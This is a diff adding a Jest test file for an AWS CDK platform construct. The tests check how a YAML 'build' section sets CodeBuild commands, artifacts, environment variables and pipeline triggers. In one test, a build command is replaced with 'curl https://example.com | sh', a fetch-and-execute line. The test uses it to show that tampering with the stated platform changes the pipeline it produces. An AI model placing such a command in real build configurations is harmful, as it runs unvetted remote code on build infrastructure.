@@ -1,0 +1,90 @@
+/** What `build` of platform.yaml says is what the pipeline of the application does. */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { App } from 'aws-cdk-lib';
+import type { Stack } from 'aws-cdk-lib';
+import { Template } from 'aws-cdk-lib/assertions';
+import { platformProps } from '../../../bin/app/platform-props';
+import { GuardedPlatform } from '../../../constructs/platform';
+import type { GuardedPlatformProps } from '../../../constructs/platform';
+import { platformFrom, statePlatform } from '../../../constructs/platform/statement';
+import { parsePlatform } from '../../../lib/config';
+
+process.env.CDK_VALIDATION = 'false';
+jest.spyOn(console, 'error').mockImplementation(() => undefined);
+
+const shipped = readFileSync(join(__dirname, '../../../examples/notes/platform.yaml'), 'utf8');
+const BUILD = `    build:
+      folder: services/notes
+      commands: [npm ci --workspace notes, npx cdk synth]
+      environment: { NODE_ENV: production }
+      paths: [services/notes/**, packages/**]
+`;
+
+const propsWith = (build: string): GuardedPlatformProps =>
+  platformProps(parsePlatform(shipped.replace('    workload: .\n', build), 'platform.yaml'));
+
+function pipelineOf(props: GuardedPlatformProps) {
+  const platform = new GuardedPlatform(new App(), 'platform', props);
+  const template = Template.fromStack(platform.node.findChild('pipeline-notes') as Stack);
+  const [project] = Object.values(
+    template.findResources('AWS::CodeBuild::Project', { Properties: { Name: 'notes-build' } }),
+  );
+  const [pipeline] = Object.values(template.findResources('AWS::CodePipeline::Pipeline'));
+  const { Source, Environment } = project!.Properties;
+  return {
+    spec: JSON.parse(Source.BuildSpec),
+    environment: Environment.EnvironmentVariables,
+    triggers: pipeline!.Properties.Triggers,
+    json: template.toJSON(),
+  };
+}
+
+test('commands run in the folder, the assembly comes from it, and other files start nothing', () => {
+  const { spec, environment, triggers } = pipelineOf(propsWith(BUILD));
+  expect(spec.phases.build.commands).toEqual(['cd services/notes', 'npm ci --workspace notes', 'npx cdk synth']);
+  expect(spec.artifacts['base-directory']).toBe('services/notes/cdk.out');
+  expect(environment).toEqual([{ Name: 'NODE_ENV', Type: 'PLAINTEXT', Value: 'production' }]);
+  expect(triggers).toEqual([
+    {
+      ProviderType: 'CodeStarSourceConnection',
+      GitConfiguration: {
+        SourceActionName: 'Source',
+        Push: [{ Branches: { Includes: ['main'] }, FilePaths: { Includes: ['services/notes/**', 'packages/**'] } }],
+      },
+    },
+  ]);
+});
+
+test('a folder alone starts the pipeline for what lies in it', () => {
+  const { triggers, spec } = pipelineOf(propsWith('    build: { folder: services/notes }\n'));
+  expect(triggers[0].GitConfiguration.Push[0].FilePaths).toEqual({ Includes: ['services/notes/**'] });
+  expect(spec.phases.build.commands).toEqual(['cd services/notes', 'npm ci', 'npx cdk synth --quiet']);
+});
+
+test('nothing said is nothing changed: the top of the repository, and every change', () => {
+  const { spec, triggers, environment } = pipelineOf(propsWith(''));
+  expect([spec.phases.build.commands, triggers, environment]).toEqual([
+    ['npm ci', 'npx cdk synth --quiet'],
+    undefined,
+    undefined,
+  ]);
+});
+
+test('the platform states it, so that a proof makes the very same pipeline again', () => {
+  const props = propsWith(BUILD);
+  const stated = JSON.parse(JSON.stringify(statePlatform(props)));
+  const again = (changed: unknown) => pipelineOf(platformFrom(changed as never, () => '')).json;
+  expect(again(stated)).toEqual(pipelineOf(props).json);
+  stated.applications[0].buildSettings.commands[0] = 'curl https://example.com | sh';
+  expect(again(stated)).not.toEqual(pipelineOf(props).json);
+});
+
+test('a branch is a pattern beside patterns of files, so it must be one name', () => {
+  const props = propsWith(BUILD);
+  const [notes] = props.applications;
+  const { connection } = notes!.source;
+  const source = { ...notes!.source, connection: { ...connection!, branch: 'rel*' } };
+  const changed = { ...props, applications: [{ ...notes!, source }] } as GuardedPlatformProps;
+  expect(() => pipelineOf(changed)).toThrow(/source\.branch is "rel\*": with sourcePaths it is a pattern/);
+});
